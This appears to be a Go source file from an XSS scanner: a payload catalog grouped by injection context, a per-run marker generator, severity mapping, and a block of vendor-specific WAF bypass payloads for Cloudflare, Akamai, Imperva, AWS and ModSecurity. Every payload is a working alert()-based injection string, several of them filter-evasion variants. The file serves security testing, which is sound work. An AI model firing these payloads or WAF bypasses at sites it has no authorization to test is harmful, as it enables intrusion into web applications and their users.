// Package payloads holds the XSS payload catalog, partitioned by injection
// context, plus the context classifier used to decide which subset of the
// catalog a reflected parameter should be escalated with.
//
// Every payload is a template carrying a {{marker}} slot. Instantiating a
// template binds a run-unique marker token so a reflection observed in a
// response can be attributed to exactly one (candidate, parameter, payload)
// triple, even with hundreds of probes in flight.
package payloads

import (
	"fmt"
	"sort"
	"strings"
	"sync/atomic"

	"github.com/google/uuid"
)

// Context represents where attacker input lands in a rendered page.
type Context string

const (
	ContextScript    Context = "script"
	ContextHTML      Context = "html"
	ContextAttribute Context = "attribute"
	ContextURL       Context = "url"
	ContextStyle     Context = "style"
	ContextUnknown   Context = "unknown"
)

// AllContexts returns the classifiable injection contexts.
func AllContexts() []Context {
	return []Context{
		ContextScript,
		ContextHTML,
		ContextAttribute,
		ContextURL,
		ContextStyle,
	}
}

// Severity levels assigned to verified findings.
type Severity string

const (
	SeverityHigh   Severity = "high"
	SeverityMedium Severity = "medium"
	SeverityLow    Severity = "low"
)

// SeverityFor maps an injection context to a finding severity.
// Script and HTML contexts allow arbitrary script with no breakout,
// attribute and URL contexts need a breakout or user interaction,
// style is the hardest to weaponize in modern browsers.
func SeverityFor(ctx Context) Severity {
	switch ctx {
	case ContextScript, ContextHTML:
		return SeverityHigh
	case ContextAttribute, ContextURL:
		return SeverityMedium
	case ContextStyle:
		return SeverityLow
	default:
		return SeverityMedium
	}
}

// markerSlot is the template placeholder replaced at instantiation time.
const markerSlot = "{{marker}}"

// Payload is a single catalog entry.
type Payload struct {
	Template     string  `json:"template"`
	Context      Context `json:"context"`
	Complexity   int     `json:"complexity"` // escalation order within a context, lower first
	Description  string  `json:"description"`
	BypassVendor string  `json:"bypass_vendor,omitempty"` // non-empty for vendor-specific bypass entries
}

// Instance is a payload bound to a concrete run-unique marker.
type Instance struct {
	Payload Payload `json:"payload"`
	Marker  string  `json:"marker"`
	Value   string  `json:"value"` // Template with the marker substituted
}

// MarkerFactory mints run-unique marker tokens. The prefix ties markers to
// one scan session; the counter makes each token unique by construction.
type MarkerFactory struct {
	prefix string
	n      atomic.Uint64
}

// NewMarkerFactory creates a factory with a random session prefix.
func NewMarkerFactory() *MarkerFactory {
	id := uuid.New().String()
	// First UUID group is enough entropy to separate concurrent runs
	return &MarkerFactory{prefix: "xm" + strings.SplitN(id, "-", 2)[0]}
}

// NewMarkerFactoryWithPrefix creates a factory with a fixed prefix.
// Used by tests that need deterministic markers.
func NewMarkerFactoryWithPrefix(prefix string) *MarkerFactory {
	return &MarkerFactory{prefix: prefix}
}

// Next returns a fresh marker token.
func (f *MarkerFactory) Next() string {
	return fmt.Sprintf("%s%x", f.prefix, f.n.Add(1))
}

// Prefix returns the session marker prefix.
func (f *MarkerFactory) Prefix() string {
	return f.prefix
}

// Instantiate binds a fresh marker into a payload template.
func (f *MarkerFactory) Instantiate(p Payload) Instance {
	m := f.Next()
	return Instance{
		Payload: p,
		Marker:  m,
		Value:   strings.ReplaceAll(p.Template, markerSlot, m),
	}
}

// Catalog holds the payload tables, optionally replaced by user overrides.
type Catalog struct {
	byContext map[Context][]Payload
	bypass    map[string][]Payload // vendor -> bypass payloads
	custom    []Payload
}

// NewCatalog returns the default catalog.
func NewCatalog() *Catalog {
	c := &Catalog{
		byContext: make(map[Context][]Payload),
		bypass:    make(map[string][]Payload),
	}
	for _, p := range defaultPayloads() {
		if p.BypassVendor != "" {
			key := strings.ToLower(p.BypassVendor)
			c.bypass[key] = append(c.bypass[key], p)
			continue
		}
		c.byContext[p.Context] = append(c.byContext[p.Context], p)
	}
	for ctx := range c.byContext {
		sortByComplexity(c.byContext[ctx])
	}
	return c
}

// NewCatalogWithOverrides returns a catalog whose entries are the given
// user payloads instead of the defaults. Overrides carry ContextUnknown
// until their first observed reflection classifies them.
func NewCatalogWithOverrides(overrides []Payload) *Catalog {
	c := &Catalog{
		byContext: make(map[Context][]Payload),
		bypass:    make(map[string][]Payload),
		custom:    overrides,
	}
	return c
}

func sortByComplexity(ps []Payload) {
	sort.SliceStable(ps, func(i, j int) bool {
		return ps[i].Complexity < ps[j].Complexity
	})
}

// ForContext returns the payloads targeting the given context, ordered by
// increasing complexity so cheap payloads are escalated first. For
// ContextUnknown the whole catalog is returned, grouped per context in
// the order returned by AllContexts.
func (c *Catalog) ForContext(ctx Context) []Payload {
	if len(c.custom) > 0 {
		return append([]Payload(nil), c.custom...)
	}
	if ctx == ContextUnknown || ctx == "" {
		var all []Payload
		for _, k := range AllContexts() {
			all = append(all, c.byContext[k]...)
		}
		return all
	}
	return append([]Payload(nil), c.byContext[ctx]...)
}

// WithVendorBypass returns ForContext(ctx) followed by the bypass payloads
// known to slip past the named WAF vendor. Vendor matching is
// case-insensitive on a substring basis ("Cloudflare" matches "cloudflare").
func (c *Catalog) WithVendorBypass(vendor string, ctx Context) []Payload {
	out := c.ForContext(ctx)
	if vendor == "" {
		return out
	}
	needle := strings.ToLower(vendor)
	for key, ps := range c.bypass {
		if strings.Contains(needle, key) || strings.Contains(key, needle) {
			out = append(out, ps...)
		}
	}
	return out
}

// Contexts returns the contexts with at least one catalog entry.
func (c *Catalog) Contexts() []Context {
	if len(c.custom) > 0 {
		return []Context{ContextUnknown}
	}
	var out []Context
	for _, ctx := range AllContexts() {
		if len(c.byContext[ctx]) > 0 {
			out = append(out, ctx)
		}
	}
	return out
}

// defaultPayloads builds the built-in payload tables.
// Ordering within a context is by Complexity: plain payloads first,
// filter-evasion variants later, so escalation stops early on soft targets.
func defaultPayloads() []Payload {
	var payloads []Payload

	htmlPayloads := []struct {
		template string
		desc     string
	}{
		{`<script>alert('{{marker}}')</script>`, "Basic script tag"},
		{`<script>window.__xssed&&window.__xssed('{{marker}}')</script>`, "Marker sink call"},
		{`<img src=x onerror=alert('{{marker}}')>`, "Image error handler"},
		{`<svg onload=alert('{{marker}}')>`, "SVG onload"},
		{`<svg/onload=alert('{{marker}}')>`, "SVG onload no space"},
		{`<body onload=alert('{{marker}}')>`, "Body onload"},
		{`<input onfocus=alert('{{marker}}') autofocus>`, "Input autofocus"},
		{`<details open ontoggle=alert('{{marker}}')>`, "Details ontoggle"},
		{`<video><source onerror=alert('{{marker}}')>`, "Video source error"},
		{`<iframe src="javascript:alert('{{marker}}')">`, "Iframe javascript src"},
		{`<ScRiPt>alert('{{marker}}')</sCrIpT>`, "Mixed case script"},
		{`<script>al/**/ert('{{marker}}')</script>`, "Comment in function"},
		{`<script>window['al'+'ert']('{{marker}}')</script>`, "String concatenation"},
		{`<math><mtext><table><mglyph><style><img src=x onerror=alert('{{marker}}')>`, "Math nesting"},
	}
	for i, p := range htmlPayloads {
		payloads = append(payloads, Payload{
			Template:    p.template,
			Context:     ContextHTML,
			Complexity:  i,
			Description: p.desc,
		})
	}

	scriptPayloads := []struct {
		template string
		desc     string
	}{
		{`';alert('{{marker}}')//`, "String breakout single"},
		{`";alert('{{marker}}')//`, "String breakout double"},
		{`</script><script>alert('{{marker}}')</script>`, "Script tag breakout"},
		{`'-alert('{{marker}}')-'`, "Arithmetic injection"},
		{`\';alert('{{marker}}')//`, "Escaped quote breakout"},
		{`${alert('{{marker}}')}`, "Template literal injection"},
	}
	for i, p := range scriptPayloads {
		payloads = append(payloads, Payload{
			Template:    p.template,
			Context:     ContextScript,
			Complexity:  i,
			Description: p.desc,
		})
	}

	attrPayloads := []struct {
		template string
		desc     string
	}{
		{`" onmouseover="alert('{{marker}}')`, "Attribute breakout mouseover"},
		{`' onmouseover='alert('{{marker}}')`, "Single quote breakout"},
		{`" onfocus="alert('{{marker}}')" autofocus="`, "Attribute breakout focus"},
		{`"><script>alert('{{marker}}')</script>`, "Attribute to HTML breakout"},
		{`'><img src=x onerror=alert('{{marker}}')>`, "Attribute to img"},
	}
	for i, p := range attrPayloads {
		payloads = append(payloads, Payload{
			Template:    p.template,
			Context:     ContextAttribute,
			Complexity:  i,
			Description: p.desc,
		})
	}

	urlPayloads := []struct {
		template string
		desc     string
	}{
		{`javascript:alert('{{marker}}')`, "Javascript URL"},
		{`data:text/html,<script>alert('{{marker}}')</script>`, "Data URL"},
		{`javascript://comment%0Aalert('{{marker}}')`, "Comment bypass"},
		{`java%0ascript:alert('{{marker}}')`, "Newline in protocol"},
	}
	for i, p := range urlPayloads {
		payloads = append(payloads, Payload{
			Template:    p.template,
			Context:     ContextURL,
			Complexity:  i,
			Description: p.desc,
		})
	}

	stylePayloads := []struct {
		template string
		desc     string
	}{
		{`</style><script>alert('{{marker}}')</script>`, "Style breakout"},
		{`expression(alert('{{marker}}'))`, "CSS expression (old IE)"},
		{`background:url(javascript:alert('{{marker}}'))`, "Background URL javascript"},
	}
	for i, p := range stylePayloads {
		payloads = append(payloads, Payload{
			Template:    p.template,
			Context:     ContextStyle,
			Complexity:  i,
			Description: p.desc,
		})
	}

	// Vendor-specific bypass payloads, appended only after fingerprinting
	bypassPayloads := []struct {
		template string
		vendor   string
		desc     string
	}{
		{"<svg/onload=alert`{{marker}}`>", "cloudflare", "Backtick call"},
		{`<img src=x onerror="alert('{{marker}}')">`, "cloudflare", "Quoted handler"},
		{`<svg><animate onbegin=alert('{{marker}}')>`, "akamai", "SVG animate"},
		{`<a href="jav&#x09;ascript:alert('{{marker}}')">x</a>`, "akamai", "Tab in protocol"},
		{`<details/open/ontoggle=alert('{{marker}}')>`, "imperva", "Slash separators"},
		{`<iframe srcdoc="&lt;script&gt;alert('{{marker}}')&lt;/script&gt;">`, "imperva", "Entity srcdoc"},
		{`<input onfocus=alert('{{marker}}') autofocus>`, "aws", "Autofocus handler"},
		{`<body onpageshow=alert('{{marker}}')>`, "aws", "Pageshow handler"},
		{`<marquee onstart=alert('{{marker}}')>`, "modsecurity", "Marquee onstart"},
		{`<scr<script>ipt>alert('{{marker}}')</scr</script>ipt>`, "modsecurity", "Nested tag split"},
	}
	for i, p := range bypassPayloads {
		payloads = append(payloads, Payload{
			Template:     p.template,
			Context:      ContextHTML,
			Complexity:   100 + i, // always after the defaults
			Description:  p.desc,
			BypassVendor: p.vendor,
		})
	}

	return payloads
}
